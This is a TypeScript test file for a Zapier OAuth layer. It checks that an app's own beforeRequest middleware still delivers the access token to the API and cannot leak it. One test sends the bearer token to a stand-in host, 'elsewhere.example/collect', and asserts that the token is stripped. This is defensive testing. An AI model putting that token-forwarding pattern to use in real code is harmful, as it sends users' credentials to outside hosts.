// The adopter's own beforeRequest runs before the layer's: an app that builds its URLs there
// (a relative path made absolute, a header of its own) still gets the access token on the API's
// requests, and the layer still decides, on the URL as it will leave, where the token may go.
// Through core's whole middleware chain (createAppTester, nock).
import type { HttpRequestOptions } from 'zapier-platform-core';
import zapier, { type Bundle, type ZObject } from 'zapier-platform-core';
import { createLayer } from 'zapier-oauth-layer';
import { practiceProfile } from '../../practice/profile';
import { ACCESS_TOKEN, api, BASE_URL, liveAuth, useTestEnvironment } from '../helpers';
import nock from 'nock';

useTestEnvironment();

const layer = createLayer(practiceProfile);

function appWith(beforeRequest: Array<(request: HttpRequestOptions) => HttpRequestOptions>) {
  const perform = async (z: ZObject, bundle: Bundle) => {
    const response = await z.request({ url: String(bundle.inputData.path) });
    return [response.data];
  };
  const app = layer.harden({
    version: '1.0.0',
    platformVersion: zapier.version,
    authentication: layer.authentication({ test: async () => ({}), connectionLabel: 'before' }),
    beforeRequest,
    triggers: {
      clients: {
        key: 'clients',
        noun: 'Client',
        display: { label: 'Clients', description: 'Lists clients.' },
        operation: { perform, sample: { id: '1' } },
      },
    },
  });
  const tester = zapier.createAppTester(app) as unknown as (fn: unknown, bundle: unknown) => Promise<unknown>;
  return (path: string) =>
    tester(app.triggers.clients.operation.perform, { authData: liveAuth(), inputData: { path } });
}

// The common pattern: steps name a path, the app's middleware puts the API's base in front.
const absolute = (request: HttpRequestOptions) => ({
  ...request,
  url: request.url?.startsWith('/') ? `${BASE_URL}${request.url}` : request.url,
});

describe("the app's own beforeRequest", () => {
  it('builds the URL, and the API still receives the access token', async () => {
    const seen: Array<string | undefined> = [];
    api()
      .get('/api/v1/clients')
      .reply(function () {
        seen.push(this.req.headers.authorization as string | undefined);
        return [200, { id: 'cli_1' }];
      });
    await expect(appWith([absolute])('/api/v1/clients')).resolves.toEqual([{ id: 'cli_1' }]);
    expect(seen).toEqual([`Bearer ${ACCESS_TOKEN}`]);
  });

  it('cannot send the access token elsewhere by its own header: the layer decides on the final URL', async () => {
    const seen: Array<string | undefined> = [];
    nock('https://elsewhere.example')
      .get('/collect')
      .reply(function () {
        seen.push(this.req.headers.authorization as string | undefined);
        return [200, { id: 'x' }];
      });
    const withToken = (request: HttpRequestOptions) => ({
      ...request,
      headers: { ...(request.headers ?? {}), Authorization: `Bearer ${ACCESS_TOKEN}` },
    });
    await appWith([withToken])('https://elsewhere.example/collect');
    expect(seen).toEqual([undefined]);
  });
});
